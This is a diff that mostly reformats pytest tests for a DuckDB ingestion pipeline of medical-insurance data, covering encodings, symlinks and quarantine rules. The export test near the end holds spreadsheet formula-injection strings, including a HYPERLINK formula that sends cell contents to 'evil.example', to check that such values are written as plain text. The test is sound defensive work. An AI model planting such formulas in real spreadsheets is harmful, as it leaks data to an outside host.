@@ -65,8 +65,12 @@ def planted(sample_tree, tmp_path_factory):
     t = pq.read_table(fee)
     # row 0: a refund-looking negative line that points at nothing
     t = _set(t, "cnt", 0, -abs(t.column("cnt")[0].as_py()))
-    t = _set(t, "det_item_fee_sumamt", 0,
-             Decimal(t.column("cnt")[0].as_py() * t.column("pric")[0].as_py()).quantize(Decimal("0.01")))
+    t = _set(
+        t,
+        "det_item_fee_sumamt",
+        0,
+        Decimal(t.column("cnt")[0].as_py() * t.column("pric")[0].as_py()).quantize(Decimal("0.01")),
+    )
     t = _set(t, "init_feedetl_sn", 0, None)
     # row 1: amount is not cnt × pric
     t = _set(t, "det_item_fee_sumamt", 1, t.column("det_item_fee_sumamt")[1].as_py() + Decimal("5.00"))
@@ -83,9 +87,15 @@ def planted(sample_tree, tmp_path_factory):
     finally:
         con.close()
     result = run_gate(wh, base / "out", feeds=["fee_list", "mdtrt"])
-    return {"report": report, "gate": result, "wh": wh, "fee_file": fee.relative_to(tree).as_posix(),
-            "visit_file": visits.relative_to(tree).as_posix(), "fee_ids": t.column("feedetl_sn").to_pylist()[:3],
-            "visit_id": v.column("mdtrt_id")[0].as_py()}
+    return {
+        "report": report,
+        "gate": result,
+        "wh": wh,
+        "fee_file": fee.relative_to(tree).as_posix(),
+        "visit_file": visits.relative_to(tree).as_posix(),
+        "fee_ids": t.column("feedetl_sn").to_pylist()[:3],
+        "visit_id": v.column("mdtrt_id")[0].as_py(),
+    }
 
 
 def _failed_ids(feed_result, severity=None) -> dict[str, object]:
@@ -110,7 +120,9 @@ def test_unknown_codes_are_flagged_not_dropped(planted):
     assert visit.passed  # warnings only: nothing blocked by an unknown code
     con = duckdb.connect(str(planted["wh"]), read_only=True)
     try:
-        assert con.execute("select med_type from raw.mdtrt where mdtrt_id = ?", [planted["visit_id"]]).fetchone() == ("99",)
+        assert con.execute("select med_type from raw.mdtrt where mdtrt_id = ?", [planted["visit_id"]]).fetchone() == (
+            "99",
+        )
         assert con.execute("select count(*) from raw.fee_list where hilist_code = 'ZZ-UNKNOWN-ITEM'").fetchone()[0] == 1
     finally:
         con.close()
@@ -120,10 +132,12 @@ def test_no_replacement_character_anywhere(planted):
     con = duckdb.connect(str(planted["wh"]), read_only=True)
     try:
         for schema, table, column in con.execute(
-                "select table_schema, table_name, column_name from information_schema.columns "
-                "where table_schema = 'raw' and data_type = 'VARCHAR'").fetchall():
-            n = con.execute(f'select count(*) from "{schema}"."{table}" where contains("{column}", ?)',
-                            ["\ufffd"]).fetchone()[0]
+            "select table_schema, table_name, column_name from information_schema.columns "
+            "where table_schema = 'raw' and data_type = 'VARCHAR'"
+        ).fetchall():
+            n = con.execute(
+                f'select count(*) from "{schema}"."{table}" where contains("{column}", ?)', ["\ufffd"]
+            ).fetchone()[0]
             assert n == 0, (table, column)
     finally:
         con.close()
@@ -162,9 +176,17 @@ SALE_HEADER = "sale_sn,fixmedins_code,sel_time,med_list_codg,cnt,finl_trns_pric"
 
 def _fee_parquet(path: Path, sn: str, **override) -> Path:
     cols = {
-        "feedetl_sn": [sn], "mdtrt_id": ["M1"], "setl_id": ["S1"], "psn_no": ["P1"], "fixmedins_code": ["H001"],
+        "feedetl_sn": [sn],
+        "mdtrt_id": ["M1"],
+        "setl_id": ["S1"],
+        "psn_no": ["P1"],
+        "fixmedins_code": ["H001"],
         "fee_ocur_time": pa.array([dt.datetime(2025, 1, 2, 10, 0, 5)], pa.timestamp("us")),
-        "hilist_code": ["X01"], "list_type": ["101"], "cnt": ["2"], "pric": ["1.5"], "det_item_fee_sumamt": ["3.00"],
+        "hilist_code": ["X01"],
+        "list_type": ["101"],
+        "cnt": ["2"],
+        "pric": ["1.5"],
+        "det_item_fee_sumamt": ["3.00"],
     }
     cols.update(override)
     path.parent.mkdir(parents=True, exist_ok=True)
@@ -172,8 +194,13 @@ def _fee_parquet(path: Path, sn: str, **override) -> Path:
     return path
 
 
-def _xlsx(path: Path, sheets: list[tuple[str, list[list]]], chart_first: bool = False, merge: str | None = None,
-          formulas: list[tuple[str, str, object]] = ()) -> Path:
+def _xlsx(
+    path: Path,
+    sheets: list[tuple[str, list[list]]],
+    chart_first: bool = False,
+    merge: str | None = None,
+    formulas: list[tuple[str, str, object]] = (),
+) -> Path:
     """A workbook: sheets of rows (an empty list = an empty sheet); optional chart sheet first, merged range
     and formula cells (cell, formula, cached value or None) on the first worksheet."""
     path.parent.mkdir(parents=True, exist_ok=True)
@@ -202,12 +229,16 @@ def _xlsx(path: Path, sheets: list[tuple[str, list[list]]], chart_first: bool = 
     return path
 
 
-INSPECTION = [["insp_id", "fixmedins_code", "insp_date", "insp_type"],
-              ["I1", "H001", "2025-03-05", "1"], ["I2", "H002", "2025-03-06", "2"]]
+INSPECTION = [
+    ["insp_id", "fixmedins_code", "insp_date", "insp_type"],
+    ["I1", "H001", "2025-03-05", "1"],
+    ["I2", "H002", "2025-03-06", "2"],
+]
 INSPECTION_FILE = "case_inspection/202503/990100_case_inspection_202503.xlsx"
 
 
 # -- every delivered file is read as itself, and every entry of the landing tree is mentioned
+
 
 def test_glob_characters_in_file_names_read_only_that_file(tree):
     root, db = tree
@@ -228,7 +259,7 @@ def test_links_out_of_the_tree_hidden_files_and_linked_folders_are_refused_and_l
     write(outside, "202502/990100_psn_202502.csv", f"{PSN_HEADER}\nP8,{ID_A},外人,1,1949-12-31,990101\n")
     (root / "psn/202501").mkdir(parents=True)
     os.symlink(outside / "secret.csv", root / "psn/202501/990100_psn_202501.csv")
-    os.symlink(outside / "202502", root / "psn/202502")                              # a linked period folder
+    os.symlink(outside / "202502", root / "psn/202502")  # a linked period folder
     write(root, "psn/202503/.990100_psn_202503.csv", f"{PSN_HEADER}\nP7,{ID_A},张三,1,1949-12-31,990101\n")
     write(root, "psn/202504/990100_psn_202504.csv", f"{PSN_HEADER}\nP1,{ID_A},张三,1,1949-12-31,990101\n")
     os.symlink(root / "psn/202504/990100_psn_202504.csv", root / "psn/202504/990100_psn_202504_2.csv")
@@ -252,8 +283,11 @@ def test_links_out_of_the_tree_hidden_files_and_linked_folders_are_refused_and_l
 
 def test_a_csv_and_an_xlsx_for_one_slot_the_second_is_refused(tree):
     root, db = tree
-    write(root, "case_inspection/202503/990100_case_inspection_202503.csv",
-          "\n".join(",".join(r) for r in INSPECTION[:2]) + "\n")
+    write(
+        root,
+        "case_inspection/202503/990100_case_inspection_202503.csv",
+        "\n".join(",".join(r) for r in INSPECTION[:2]) + "\n",
+    )
     _xlsx(root / INSPECTION_FILE, [("检查", INSPECTION)])
     rep = load(root, db)
     assert [(Path(f.file).suffix, f.status) for f in rep.files] == [(".csv", "loaded"), (".xlsx", "refused")]
@@ -273,27 +307,37 @@ def test_a_file_refused_for_its_slot_loads_once_the_other_file_is_gone(tree):
     assert (Path(f.file).suffix, f.status) == (".xlsx", "loaded") and "correction" in f.message, f.message
     assert query(db, "select count(*) from raw.load_manifest where file like '%.xlsx'") == [(1,)]
     assert sorted(r[0] for r in query(db, "select insp_id from raw.case_inspection")) == sorted(
-        r[0] for r in INSPECTION[1:])
+        r[0] for r in INSPECTION[1:]
+    )
 
 
 # -- an institution delivers its own rows
 
+
 def test_rows_of_another_institution_in_an_institution_file_are_quarantined(tree):
     root, db = tree
     write(root, "phar_sale/202501/P001_phar_sale_202501.csv", f"{SALE_HEADER}\nS1,P001,2025-01-05 09:00:00,X01,1,2.5\n")
-    write(root, "phar_sale/202502/P002_phar_sale_202502.csv",
-          f"{SALE_HEADER}\nS1,P002,2025-02-05 09:00:00,X01,2,2.5\nS1,P001,2025-02-05 09:00:00,X01,999,2.5\n")
+    write(
+        root,
+        "phar_sale/202502/P002_phar_sale_202502.csv",
+        f"{SALE_HEADER}\nS1,P002,2025-02-05 09:00:00,X01,2,2.5\nS1,P001,2025-02-05 09:00:00,X01,999,2.5\n",
+    )
     rep = load(root, db)
     assert rep.rows_read == rep.rows_loaded + rep.rows_quarantined == 3
-    assert query(db, "select fixmedins_code, sale_sn, cnt from raw.phar_sale order by 1") == [("P001", "S1", 1), ("P002", "S1", 2)]
+    assert query(db, "select fixmedins_code, sale_sn, cnt from raw.phar_sale order by 1") == [
+        ("P001", "S1", 1),
+        ("P002", "S1", 2),
+    ]
     assert query(db, "select file, line, reasons from raw.quarantine") == [
-        ("phar_sale/202502/P002_phar_sale_202502.csv", 3, "foreign_institution(fixmedins_code)")]
+        ("phar_sale/202502/P002_phar_sale_202502.csv", 3, "foreign_institution(fixmedins_code)")
+    ]
     # a centre feed carries every institution's rows
     _fee_parquet(root / "fee_list/202501/990100_fee_list_202501.parquet", "F1")
     assert load(root, db).files[0].rows_loaded == 1
 
 
 # -- corrections: the landing's bytes are what the warehouse holds
+
 
 def test_a_withdrawn_correction_brings_the_first_bytes_back(tree):
     root, db = tree
@@ -315,6 +359,7 @@ def test_a_withdrawn_correction_brings_the_first_bytes_back(tree):
 
 # -- xlsx: the first visible worksheet, values only, or a refusal saying why
 
+
 def test_a_chart_sheet_before_the_data_sheet_is_skipped(tree):
     root, db = tree
     _xlsx(root / INSPECTION_FILE, [("检查", INSPECTION)], chart_first=True)
@@ -322,10 +367,13 @@ def test_a_chart_sheet_before_the_data_sheet_is_skipped(tree):
     assert (rep.files[0].status, rep.files[0].rows_loaded) == ("loaded", 2), rep.files[0].message
 
 
-@pytest.mark.parametrize("sheets, expected", [
-    ([("检查", INSPECTION), ("补充", INSPECTION[:1] + [["I3", "H003", "2025-03-07", "1"]])], "all hold data"),
-    ([("空", []), ("检查", INSPECTION)], "first visible worksheet '空' is empty"),
-])
+@pytest.mark.parametrize(
+    "sheets, expected",
+    [
+        ([("检查", INSPECTION), ("补充", INSPECTION[:1] + [["I3", "H003", "2025-03-07", "1"]])], "all hold data"),
+        ([("空", []), ("检查", INSPECTION)], "first visible worksheet '空' is empty"),
+    ],
+)
 def test_data_on_another_visible_sheet_is_refused(tree, sheets, expected):
     root, db = tree
     _xlsx(root / INSPECTION_FILE, sheets)
@@ -351,14 +399,20 @@ def test_formula_cells_are_refused(tree, cached):
 
 def test_codes_as_number_cells_are_quarantined(tree):
     root, db = tree
-    _xlsx(root / INSPECTION_FILE, [("检查", [INSPECTION[0], [123, "H001", "2025-03-05", 1], ["0124", "H001", "2025-03-05", 2]])])
+    _xlsx(
+        root / INSPECTION_FILE,
+        [("检查", [INSPECTION[0], [123, "H001", "2025-03-05", 1], ["0124", "H001", "2025-03-05", 2]])],
+    )
     f = load(root, db).files[0]
     assert (f.rows_loaded, f.rows_quarantined) == (1, 1)
     assert query(db, "select line, reasons from raw.quarantine") == [(2, "code_as_number(insp_id)")]
-    assert query(db, "select insp_id, insp_type from raw.case_inspection") == [("0124", "2")]  # 1/2 enumerations may be numbers
+    assert query(db, "select insp_id, insp_type from raw.case_inspection") == [
+        ("0124", "2")
+    ]  # 1/2 enumerations may be numbers
 
 
 # -- Parquet: typed columns read as delivered
+
 
 def test_parquet_nanosecond_timestamps_load(tree):
     root, db = tree
@@ -387,6 +441,7 @@ def test_parquet_with_two_columns_of_one_field_is_refused(tree):
 
 # -- CSV text: decoded on the evidence of the whole file
 
+
 def test_gb18030_file_with_one_utf8_field_is_refused_as_mixed(tree):
     root, db = tree
     head = "医嘱号,定点医药机构编号,项目名称,开始时间\nD1,H001,青霉素注射液,2025-01-03 08:00:00\n".encode("gb18030")
@@ -412,8 +467,12 @@ def test_gb18030_names_that_happen_to_be_valid_utf8_do_not_refuse_the_file(tree)
     # 濮鸿芳 in GB18030 is also valid UTF-8 for two Chinese characters; its bytes are GB2312 pairs
     root, db = tree
     assert "濮鸿芳".encode("gb18030").decode("utf-8")
-    write(root, "psn/202501/990100_psn_202501.csv", f"{PSN_HEADER}\nP1,{ID_A},濮鸿芳,1,1949-12-31,990101\n"
-          f"P2,{ID_B},张三,1,1980-01-01,990101\n", "gb18030")
+    write(
+        root,
+        "psn/202501/990100_psn_202501.csv",
+        f"{PSN_HEADER}\nP1,{ID_A},濮鸿芳,1,1949-12-31,990101\nP2,{ID_B},张三,1,1980-01-01,990101\n",
+        "gb18030",
+    )
     f = load(root, db).files[0]
     assert f.status == "loaded", f.message
     assert query(db, "select psn_name from raw.psn order by psn_no") == [("濮鸿芳",), ("张三",)]
@@ -443,7 +502,11 @@ def test_utf8_foreign_names_stay_utf8(tree):
 
 def test_a_double_bom_is_refused_as_such(tree):
     root, db = tree
-    write(root, "psn/202501/990100_psn_202501.csv", b"\xef\xbb\xbf\xef\xbb\xbf" + f"{PSN_HEADER}\nP1,{ID_A},张三,1,1949-12-31,990101\n".encode())
+    write(
+        root,
+        "psn/202501/990100_psn_202501.csv",
+        b"\xef\xbb\xbf\xef\xbb\xbf" + f"{PSN_HEADER}\nP1,{ID_A},张三,1,1949-12-31,990101\n".encode(),
+    )
     f = load(root, db).files[0]
     assert f.status == "refused" and "byte-order mark" in f.message and "missing" not in f.message
 
@@ -457,20 +520,34 @@ def test_a_huge_field_is_named_as_such(tree):
 
 # -- values: never re-scaled, guessed or silently changed
 
+
 def test_amounts_with_separators_or_extra_decimals_are_quarantined(tree):
     root, db = tree
-    rows = ['C1,H001,X01,1,"12,50","12,50",2025-01-02 10:00:00', "C2,H001,X01,1,1_000,1_000,2025-01-02 10:00:00",
-            "C3,H001,X01,1,12.005,12.005,2025-01-02 10:00:00", "C4,H001,X01,1,12.50,12.500,2025-01-02 10:00:00",
-            "C5,H001,X01,1,0.12345,0.12,2025-01-02 10:00:00"]
+    rows = [
+        'C1,H001,X01,1,"12,50","12,50",2025-01-02 10:00:00',
+        "C2,H001,X01,1,1_000,1_000,2025-01-02 10:00:00",
+        "C3,H001,X01,1,12.005,12.005,2025-01-02 10:00:00",
+        "C4,H001,X01,1,12.50,12.500,2025-01-02 10:00:00",
+        "C5,H001,X01,1,0.12345,0.12,2025-01-02 10:00:00",
+    ]
     write(root, "his_charge/202501/H001_his_charge_202501.csv", CHARGE_HEADER + "\n" + "\n".join(rows) + "\n")
-    _fee_parquet(root / "fee_list/202501/990100_fee_list_202501.parquet", "F1",
-                 det_item_fee_sumamt=pa.array([Decimal("12.005")], pa.decimal128(18, 3)))
+    _fee_parquet(
+        root / "fee_list/202501/990100_fee_list_202501.parquet",
+        "F1",
+        det_item_fee_sumamt=pa.array([Decimal("12.005")], pa.decimal128(18, 3)),
+    )
     load(root, db)
     assert query(db, "select charge_sn, amount from raw.his_charge") == [("C4", Decimal("12.50"))]
     reasons = dict(query(db, "select line, reasons from raw.quarantine where feed = 'his_charge'"))
-    assert reasons == {2: "invalid_number(pric); invalid_number(amount)", 3: "invalid_number(pric); invalid_number(amount)",
-                       4: "invalid_number(amount)", 6: "invalid_number(pric)"}
-    assert query(db, "select reasons from raw.quarantine where feed = 'fee_list'") == [("invalid_number(det_item_fee_sumamt)",)]
+    assert reasons == {
+        2: "invalid_number(pric); invalid_number(amount)",
+        3: "invalid_number(pric); invalid_number(amount)",
+        4: "invalid_number(amount)",
+        6: "invalid_number(pric)",
+    }
+    assert query(db, "select reasons from raw.quarantine where feed = 'fee_list'") == [
+        ("invalid_number(det_item_fee_sumamt)",)
+    ]
 
 
 def test_bare_integers_in_csv_date_columns_are_not_excel_serials(tree):
@@ -484,13 +561,19 @@ def test_bare_integers_in_csv_date_columns_are_not_excel_serials(tree):
 
 def test_invisible_characters_in_codes_are_removed_and_control_characters_quarantined(tree):
     root, db = tree
-    rows = [f"SA000000088\u200b,{ID_A},张三,1,1949-12-31,990101", f"\u00a0SA000000089\u00a0,{ID_A},张三,1,1949-12-31,990101",
-            f"SA00\x0090,{ID_A},张三,1,1949-12-31,990101", f"SA000000091,{ID_A},张\x00三,1,1949-12-31,990101"]
+    rows = [
+        f"SA000000088\u200b,{ID_A},张三,1,1949-12-31,990101",
+        f"\u00a0SA000000089\u00a0,{ID_A},张三,1,1949-12-31,990101",
+        f"SA00\x0090,{ID_A},张三,1,1949-12-31,990101",
+        f"SA000000091,{ID_A},张\x00三,1,1949-12-31,990101",
+    ]
     write(root, "psn/202501/990100_psn_202501.csv", PSN_HEADER + "\n" + "\n".join(rows) + "\n")
     load(root, db)
     assert query(db, "select psn_no from raw.psn order by 1") == [("SA000000088",), ("SA000000089",)]
     assert query(db, "select line, reasons from raw.quarantine order by line") == [
-        (4, "control_character(psn_no)"), (5, "control_character(psn_name)")]
+        (4, "control_character(psn_no)"),
+        (5, "control_character(psn_name)"),
+    ]
 
 
 def test_null_markers_and_excel_mangled_codes_are_quarantined(tree):
@@ -502,14 +585,18 @@ def test_null_markers_and_excel_mangled_codes_are_quarantined(tree):
     load(root, db)
     assert query(db, "select psn_no from raw.psn order by 1") == [("230E12",), ("P1",)]
     assert [r[0] for r in query(db, "select reasons from raw.quarantine order by line")] == [
-        "null_marker(psn_no)"] * 4 + ["excel_mangled(psn_no)"] * 2
+        "null_marker(psn_no)"
+    ] * 4 + ["excel_mangled(psn_no)"] * 2
 
 
 def test_a_repeated_header_line_is_quarantined(tree):
     root, db = tree
-    write(root, "his_order/202501/H001_his_order_202501.csv",
-          "drord_no,fixmedins_code,start_time,item_name\nD1,H001,2025-01-03 08:00:00,a\n"
-          "drord_no,fixmedins_code,start_time,item_name\nD2,H001,2025-01-03 09:00:00,b\n")
+    write(
+        root,
+        "his_order/202501/H001_his_order_202501.csv",
+        "drord_no,fixmedins_code,start_time,item_name\nD1,H001,2025-01-03 08:00:00,a\n"
+        "drord_no,fixmedins_code,start_time,item_name\nD2,H001,2025-01-03 09:00:00,b\n",
+    )
     f = load(root, db).files[0]
     assert (f.rows_read, f.rows_loaded, f.rows_quarantined) == (3, 2, 1)
     assert query(db, "select line, reasons from raw.quarantine") == [(3, "repeated_header")]
@@ -525,6 +612,7 @@ def test_two_extra_columns_of_one_name_are_both_kept(tree):
 
 # -- operations
 
+
 def test_a_warehouse_path_that_is_not_duckdb_stops_with_a_message(tree, capsys):
     from ingest.load import main
 
@@ -538,6 +626,7 @@ def test_a_warehouse_path_that_is_not_duckdb_stops_with_a_message(tree, capsys):
 
 # -- exports: text stays text
 
+
 def test_clue_sheet_writes_institution_names_as_text_never_formulas(tmp_path):
     from python_calamine import CalamineWorkbook
 
@@ -547,12 +636,16 @@ def test_clue_sheet_writes_institution_names_as_text_never_formulas(tmp_path):
     evil = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "=1+1", "+SUM(1)", "@x", "http://evil.example"]
     con = duckdb.connect(str(export))
     con.execute("create schema supervisor")
-    con.execute("create table supervisor.supervisor_clue_list (clue_id varchar, fixmedins_name varchar, "
-                "suspect_amount decimal(18,2), top_rules varchar, must_report boolean, report_due_date date, "
-                "latest_stage_name varchar, year_quarter varchar, priority_rank integer)")
+    con.execute(
+        "create table supervisor.supervisor_clue_list (clue_id varchar, fixmedins_name varchar, "
+        "suspect_amount decimal(18,2), top_rules varchar, must_report boolean, report_due_date date, "
+        "latest_stage_name varchar, year_quarter varchar, priority_rank integer)"
+    )
     for i, name in enumerate(evil):
-        con.execute("insert into supervisor.supervisor_clue_list values (?, ?, 1.5, ?, false, null, null, '2025Q1', ?)",
-                    [f"CL-{i}", name, name, i])
+        con.execute(
+            "insert into supervisor.supervisor_clue_list values (?, ?, 1.5, ?, false, null, null, '2025Q1', ?)",
+            [f"CL-{i}", name, name, i],
+        )
     con.close()
     out = tmp_path / "clues.xlsx"
     assert write_sheet("2025Q1", out, export) == len(evil)
